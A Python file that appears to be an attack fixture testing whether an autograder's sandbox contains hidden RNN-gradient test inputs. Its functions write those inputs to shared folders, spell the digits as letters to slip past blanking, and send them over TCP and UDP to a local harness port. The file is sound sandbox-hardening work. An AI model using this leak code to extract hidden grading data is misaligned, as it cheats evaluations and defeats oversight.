"""Carry hidden inputs out of the sealed run: files, shared memory, the network; read them back.

The sealed run's graded calls see the hidden inputs. Here bptt_gradients and gradient_norms
write the first values of X (six decimals of each absolute value, in digits and spelled as
letters) to every place a later process might read: ``/tmp``, ``/dev/shm``, ``/var/tmp``, the
grader's temporary folder, the kernel's home and answers folders (siblings of the sealed run's
home), otter's submission folders, the harness's canary folder; and send them over TCP and UDP
to 127.0.0.1:47813 (where the harness listens). The kernel, which runs after the sealed run,
reads every one of those files and raises an exception with what it found, so that it reaches
the feedback. hidden_gradients is right, and writes its inputs too: carrying them out must not
cost it its points.

hidden_gradients is implemented correctly; the others return zeros and earn nothing.
"""

EXPECT = {"bptt_gradients": 0, "hidden_gradients": 2, "gradient_norms": 0,
          "truncated_bptt_gradients": 0, "clip_by_global_norm": 0}

NAME = "leak_files_network"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import glob  # noqa: E402
import socket  # noqa: E402

import numpy as np  # noqa: E402

LETTERS = str.maketrans("0123456789.", "abcdefghijp")


def spelled(value):
    """Six decimals of ``abs(value)`` with each digit a letter (a for 0 ... j for 9, p for the
    point): the grader blanks out the numbers it did not choose, not words."""
    return f"{abs(float(value)):.6f}".translate(LETTERS)


LEAK = "rnn-shapes-attack-leak.txt"
PORT = 47813


def places():
    home = os.environ.get("HOME", "/tmp/x")
    box = os.path.dirname(home)
    found = ["/tmp", "/dev/shm", "/var/tmp", grader_tmp(), CANARY, os.path.join(box, "kernel"),
             os.path.join(box, "answers"), box]
    found += glob.glob(os.path.join(grader_tmp(), "tmp*", "autograder", "submission"))
    return [os.path.join(folder, LEAK) for folder in found]


def carry_out(values):
    text = " ".join(f"{abs(float(v)):.6f}/{spelled(v)}" for v in np.asarray(values).ravel()[:8])
    for path in places():
        def write(path=path):
            with open(path, "a") as f:
                f.write(text + "\n")
        tried(f"wrote hidden values to {path}", write)

    def tcp():
        with socket.create_connection(("127.0.0.1", PORT), timeout=1) as conn:
            conn.sendall(text.encode())

    def udp():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(text.encode(), ("127.0.0.1", PORT))

    tried("sent hidden values over TCP", tcp)
    tried("sent hidden values over UDP", udp)


def read_back():
    found = []
    for path in places():
        try:
            with open(path) as f:
                found.append(f.read().strip())
        except OSError:
            pass
    return found


if not SEALED:
    found = read_back()
    if found:
        breach("read back what the sealed run wrote: " + " | ".join(found)[:200])


def bptt_gradients(X, y, Wx, Wh, bh, Wo, bo):
    carry_out(X)
    return tuple(np.zeros(np.shape(w)) for w in (Wx, Wh, bh, Wo, bo))


def hidden_gradients(X, y, Wx, Wh, bh, Wo, bo):
    carry_out(X)
    N, T, _ = X.shape
    hs = [np.zeros((N, Wh.shape[0]))]
    for t in range(T):
        hs.append(np.tanh(X[:, t] @ Wx + hs[-1] @ Wh + bh))
    dh = 2 * (hs[T] @ Wo + bo - y) / y.size @ Wo.T
    out = np.zeros((N, T, Wh.shape[0]))
    for t in range(T, 0, -1):
        out[:, t - 1] = dh
        dh = (dh * (1 - hs[t] ** 2)) @ Wh.T
    return out


def gradient_norms(X, y, Wx, Wh, bh, Wo, bo):
    carry_out(X)
    return np.zeros(X.shape[1])


def truncated_bptt_gradients(X, y, Wx, Wh, bh, Wo, bo, k):
    raise NotImplementedError


def clip_by_global_norm(grads, clip_norm):
    raise NotImplementedError


finish()
